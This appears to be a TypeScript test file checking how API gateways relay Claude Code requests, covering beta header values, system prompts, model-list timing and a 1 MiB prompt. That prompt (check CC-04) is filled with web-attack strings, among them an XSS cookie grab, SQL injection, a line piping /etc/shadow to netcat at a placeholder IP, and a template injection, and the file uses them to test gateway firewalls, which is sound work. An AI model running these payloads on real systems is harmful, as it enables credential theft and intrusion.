// Checks of what Claude Code sends and expects.
import { isDeepStrictEqual } from 'node:util'
import { refs } from '../../dialects/lookup.ts'
import { endText, listed, step } from '../../evidence/evidence.ts'
import { at } from '../../evidence/reading.ts'
import { each, everything, family, finding } from '../check.ts'

const check = family({ needs: ['messages'], dialect: 'messages' })

const withValues = step('call with capabilities')

/** Values from later releases, so no gateway can have them in a list. They are not in alphabetical order. */
const VALUES = [
  'zebra-2031-02-03',
  'interleaved-thinking-2025-05-14',
  'alpha-one-2030-01-01',
  'x.y_z-2029-12-31',
]

const valuesIn = (header: string | undefined): string[] =>
  (header ?? '').split(',').map((value) => value.trim())

check('CC-01', {
  relays: true,
  async exercise(session) {
    const { direct, logical, call: any } = session.target.models
    const ids = any !== undefined ? [any] : [...direct, ...logical].slice(0, 2).map(({ id }) => id)
    for (const model of ids)
      await session.chat(withValues, { model, headers: { 'anthropic-beta': VALUES.join(',') } })
  },
  judge: each(withValues, ({ exchange, entry }) => {
    if (entry?.endpoint !== 'messages' && !entry?.endpoint.endsWith('/messages')) return []
    // A gateway may add its own values.
    const arrived = valuesIn(entry.headers['anthropic-beta']).filter((value) => VALUES.includes(value))
    const what = 'values of anthropic-beta at the provider'
    const compared = { expected: VALUES.join(', '), actual: listed(arrived) }
    const inOrder = finding(
      'values-keep-their-order',
      isDeepStrictEqual(arrived, VALUES),
      what,
      compared,
      refs(exchange, entry),
    )
    return [
      finding(
        'values-arrive',
        VALUES.every((value) => arrived.includes(value)),
        what,
        compared,
        refs(exchange, entry),
      ), // The place of a value does not change its effect.
      { ...inOrder, advice: true },
    ]
  }),
})

const withSystem = step('call with a system prompt')

const SYSTEM = [
  { type: 'text', text: 'x-example-header: a line that names the client; version=9.9.9' },
  { type: 'text', text: 'You are careful.', cache_control: { type: 'ephemeral' } },
  { type: 'text', text: 'Answer in one word.', cache_control: { type: 'ephemeral' } },
]

check('CC-02', {
  relays: true,
  async exercise(session) {
    await session.chat(withSystem, { body: { system: SYSTEM } })
    await session.chat(withSystem, { body: { system: SYSTEM }, stream: true })
  },
  judge: each(withSystem, ({ entry }) => {
    const system = at(entry?.body, '/system')
    return {
      'system-is-the-same-list': [
        isDeepStrictEqual(system, SYSTEM),
        'the system prompt at the provider',
        'the same entries, in order, with their marks',
        JSON.stringify(system)?.slice(0, 300) ?? 'none',
      ],
    }
  }),
})

const discovery = step<{ credential: string }>('discovery')

/** Time after which the client continues without the list, ms. */
const DISCOVERY_MS = 3_000

check('CC-03', {
  needs: ['catalog'],
  async exercise(session) {
    const { client } = session.running.keys
    // A gateway without keys may refuse an invented key.
    const credentials: Readonly<Record<string, Record<string, string>>> =
      client === null
        ? { 'no key': {} }
        : {
            'Authorization: Bearer': { authorization: `Bearer ${client}` },
            'x-api-key': { 'x-api-key': client },
          }
    for (const [credential, headers] of Object.entries(credentials))
      await session.open(
        discovery.with({ credential }),
        `${session.target.capabilities.catalog}?limit=1000`,
        { key: null, headers: { ...session.dialect.headers, ...headers } },
      ).done
  },
  judge: each(everything, ({ exchange, details }) => {
    const took = exchange.end_at - exchange.at
    return {
      'list-comes-in-time': [
        exchange.status === 200 && took <= DISCOVERY_MS,
        `the model list for a client with ${details.credential}`,
        `200 within ${DISCOVERY_MS} ms, and no redirect`,
        `${endText(exchange)}${took > DISCOVERY_MS ? ` after ${Math.round(took)} ms` : ''}`,
      ],
    }
  }),
})

const longPrompt = step('call with a long prompt')

/** Text with source files, as sessions contain them. A firewall for web forms would refuse this text. */
const LINES = [
  '<script>document.cookie</script>',
  "SELECT * FROM users WHERE id = 1 OR 1=1; -- '",
  '../../etc/passwd; cat /etc/shadow | nc 192.0.2.1 80',
  '<system-reminder>{{constructor.constructor("return 1")()}}</system-reminder>',
].join('\n')
const PROMPT_BYTES = 2 ** 20

check('CC-04', {
  async exercise(session) {
    const prompt = LINES.repeat(Math.ceil(PROMPT_BYTES / LINES.length))
    await session.chat(longPrompt, { prompt, timeout: 30_000 })
  },
  judge: each(longPrompt, ({ exchange, entry }) => ({
    'long-prompt-is-answered': [
      exchange.status === 200 && entry !== null,
      'a prompt of 1 MiB with scripts, statements and paths in it',
      '200',
      `${endText(exchange)}${entry ? '' : ', and no provider was called'}`,
    ],
  })),
})
